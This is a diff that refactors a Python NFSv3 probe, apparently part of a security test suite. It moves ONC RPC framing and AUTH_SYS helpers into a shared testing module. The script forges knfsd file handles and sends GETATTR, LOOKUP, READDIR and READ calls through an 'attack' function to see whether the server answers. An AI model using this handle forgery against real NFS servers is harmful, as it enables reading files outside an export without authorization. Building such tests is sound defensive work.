@@ -18,9 +18,10 @@ import socket
 import struct
 import sys
 
+from oneroot.testing.oncrpc import call_message, opaque, read_record, send_record
+
 NFS_PROGRAM, NFS_V3 = 100003, 3
 GETATTR, LOOKUP, READ, READDIR = 1, 3, 6, 16
-AUTH_SYS = 1
 # knfsd's file handle, version 1: version, auth type, fsid type, fileid type, fsid, fileid.
 FSID_NUM = 1  # a 4-byte `fsid=` number
 FILEID_ROOT = 0  # the export's root: no fileid
@@ -37,15 +38,6 @@ def knfsd_raw_handle(fsid: int, fileid_type: int, fileid: bytes) -> bytes:
     """Any filesystem's handle (`fileid_type`, `fileid` as name_to_handle_at gives them, e.g.
     overlayfs's 0xf8) under the export with `fsid=`."""
     return bytes([1, 0, FSID_NUM, fileid_type]) + struct.pack("<I", fsid) + fileid
-
-
-def _opaque(data: bytes) -> bytes:
-    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)
-
-
-def _auth_sys() -> bytes:
-    body = struct.pack(">I", 0) + _opaque(b"forger") + struct.pack(">III", 0, 0, 0)
-    return struct.pack(">I", AUTH_SYS) + _opaque(body)
 
 
 class Rpc:
@@ -67,10 +59,9 @@ class Rpc:
         """The reply's results (bytes), or a negative number when the RPC layer refused:
         -1000 - reject_stat (MSG_DENIED), -2000 - accept_stat (e.g. GARBAGE_ARGS)."""
         self.xid += 1
-        msg = (struct.pack(">IIIIII", self.xid, 0, 2, program, version, proc)
-               + _auth_sys() + struct.pack(">II", 0, 0) + args)
-        self.sock.sendall(struct.pack(">I", 0x80000000 | len(msg)) + msg)
-        reply = self._record()
+        send_record(self.sock, call_message(self.xid, program, version, proc, args,
+                                            machine=b"forger"))
+        reply = read_record(self.sock)
         xid, mtype, stat = (int(v) for v in struct.unpack(">III", reply[:12]))
         if xid != self.xid or mtype != 1:
             raise RuntimeError(f"unexpected reply xid={xid} type={mtype}")
@@ -83,24 +74,6 @@ class Rpc:
             return -2000 - accept
         return reply[at + 4:]
 
-    def _record(self) -> bytes:
-        data = b""
-        while True:
-            header = int(struct.unpack(">I", self._exactly(4))[0])
-            data += self._exactly(header & 0x7FFFFFFF)
-            if header & 0x80000000:
-                return data
-
-    def _exactly(self, n: int) -> bytes:
-        buf = b""
-        while len(buf) < n:
-            chunk = self.sock.recv(n - len(buf))
-            if not chunk:
-                raise RuntimeError("connection closed by the server")
-            buf += chunk
-        return buf
-
-
 
 class Nfs3(Rpc):
     """NFSv3 procedures; each returns the NFS status word (0 = NFS3_OK: answered)."""
@@ -110,16 +83,16 @@ class Nfs3(Rpc):
         return reply if isinstance(reply, int) else int(struct.unpack(">I", reply[:4])[0])
 
     def getattr(self, fh: bytes) -> int:
-        return self.nfs(GETATTR, _opaque(fh))
+        return self.nfs(GETATTR, opaque(fh))
 
     def lookup(self, fh: bytes, name: str) -> int:
-        return self.nfs(LOOKUP, _opaque(fh) + _opaque(name.encode()))
+        return self.nfs(LOOKUP, opaque(fh) + opaque(name.encode()))
 
     def readdir(self, fh: bytes) -> int:
-        return self.nfs(READDIR, _opaque(fh) + struct.pack(">QQI", 0, 0, 4096))
+        return self.nfs(READDIR, opaque(fh) + struct.pack(">QQI", 0, 0, 4096))
 
     def read(self, fh: bytes) -> int:
-        return self.nfs(READ, _opaque(fh) + struct.pack(">QI", 0, 4096))
+        return self.nfs(READ, opaque(fh) + struct.pack(">QI", 0, 4096))
 
 
 def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
